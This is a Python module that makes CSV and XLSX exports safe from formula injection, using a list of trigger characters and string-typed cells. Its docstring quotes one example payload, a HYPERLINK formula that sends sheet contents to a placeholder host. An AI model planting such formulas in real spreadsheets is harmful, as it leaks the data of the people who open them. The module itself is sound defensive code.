"""CSV and XLSX files that are safe to open in a spreadsheet: every export goes through here.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
taken as a formula by Excel, LibreOffice or Google Sheets (CSV injection: a contact named
``=HYPERLINK("http://x?"&A1)`` leaks the sheet when clicked). Such text is prefixed with
``'``, in CSV and XLSX alike (OWASP's recommendation); XLSX text cells are also written
with the string type, so no value ever becomes a formula. Numbers, dates and booleans
are left as they are: a number is never a formula.

Defaults suit French Excel, which is what bodies open exports with: ``;`` as delimiter and
UTF-8 with a BOM (without it Excel reads UTF-8 as Windows-1252).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import numbers
import re
from collections.abc import Iterable, Sequence
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""First characters that make a spreadsheet evaluate a cell (full-width forms included)."""

# XML 1.0 forbids these; openpyxl raises IllegalCharacterError on them.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would run as a formula.

    Leading spaces do not protect a formula in every program, so they are looked through.
    """
    if isinstance(value, str) and value:
        first = value.lstrip(" \u00a0")[:1] or value[:1]
        if first in FORMULA_TRIGGERS or value[:1] in FORMULA_TRIGGERS:
            return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def write_csv(
    stream: IO[str],
    header: Sequence[Any] | None,
    rows: Iterable[Sequence[Any]],
    *,
    delimiter: str = ";",
) -> int:
    """Write rows (streamed, any length) as CSV to a text stream; returns the row count.

    Open the stream with ``newline=""``; the caller chooses the encoding (``utf-8-sig``
    for Excel).
    """
    writer = csv.writer(stream, delimiter=delimiter, lineterminator="\r\n")
    if header is not None:
        writer.writerow(safe_row(header))
    count = 0
    for row in rows:
        writer.writerow([_csv_value(v) for v in row])
        count += 1
    return count


def rows_to_csv_bytes(
    header: Sequence[Any] | None,
    rows: Iterable[Sequence[Any]],
    *,
    delimiter: str = ";",
    encoding: str = "utf-8-sig",
) -> bytes:
    """A whole CSV file as bytes (for downloads of bounded size)."""
    buf = io.BytesIO()
    text = io.TextIOWrapper(buf, encoding=encoding, newline="", errors="replace")
    write_csv(text, header, rows, delimiter=delimiter)
    text.flush()
    data = buf.getvalue()
    text.detach()
    return data


def write_xlsx(
    target: str | IO[bytes],
    header: Sequence[Any] | None,
    rows: Iterable[Sequence[Any]],
    *,
    sheet_name: str = "Export",
) -> int:
    """Write rows as a one-sheet XLSX (openpyxl write-only: streamed); returns the row count."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=_sheet_title(sheet_name))

    def cells(values: Iterable[Any]) -> list[Any]:
        out = []
        for v in values:
            v = _xlsx_value(v)
            if isinstance(v, str):
                cell = WriteOnlyCell(ws, value=v)
                cell.data_type = "s"  # text, never a formula, whatever it starts with
                out.append(cell)
            else:
                out.append(v)
        return out

    if header is not None:
        ws.append(cells(header))
    count = 0
    for row in rows:
        ws.append(cells(row))
        count += 1
    wb.save(target)
    return count


def rows_to_xlsx_bytes(
    header: Sequence[Any] | None, rows: Iterable[Sequence[Any]], *, sheet_name: str = "Export"
) -> bytes:
    buf = io.BytesIO()
    write_xlsx(buf, header, rows, sheet_name=sheet_name)
    return buf.getvalue()


def dataframe_to_csv_bytes(
    df: pd.DataFrame, *, index: bool = False, delimiter: str = ";", encoding: str = "utf-8-sig"
) -> bytes:
    """A DataFrame as safe CSV bytes; column titles are neutralised too."""
    header, rows = _frame_rows(df, index)
    return rows_to_csv_bytes(header, rows, delimiter=delimiter, encoding=encoding)


def dataframe_to_xlsx_bytes(
    df: pd.DataFrame, *, index: bool = False, sheet_name: str = "Export"
) -> bytes:
    header, rows = _frame_rows(df, index)
    return rows_to_xlsx_bytes(header, rows, sheet_name=sheet_name)


def _frame_rows(df: pd.DataFrame, index: bool) -> tuple[list[Any], Iterable[Sequence[Any]]]:
    if index:
        df = df.reset_index()
    header = [str(c) for c in df.columns]
    return header, df.itertuples(index=False, name=None)


def _csv_value(value: Any) -> Any:
    if value is None or _is_missing(value):
        return ""
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.isoformat()
    return safe_cell(value)


def _xlsx_value(value: Any) -> Any:
    if value is None or _is_missing(value):
        return None
    if isinstance(value, str):
        return safe_cell(_XLSX_ILLEGAL.sub("", value))
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        # Excel has no time zones: write UTC wall time; convert before calling for local time.
        return value.astimezone(dt.UTC).replace(tzinfo=None)
    if isinstance(value, bool | int | float | dt.date | dt.time):
        return value
    if isinstance(value, numbers.Number):  # numpy scalars from DataFrames, Decimal
        return value.item() if hasattr(value, "item") else value
    return safe_cell(_XLSX_ILLEGAL.sub("", str(value)))  # Decimal, Timestamp, enums…


def _is_missing(value: Any) -> bool:
    """NaN / NaT / pd.NA, without importing pandas."""
    try:
        return bool(value != value)
    except (TypeError, ValueError):
        return type(value).__name__ in ("NAType", "NaTType")


def _sheet_title(name: str) -> str:
    title = re.sub(r"[\[\]:*?/\\]", " ", name).strip("' ")[:31]
    return title or "Export"
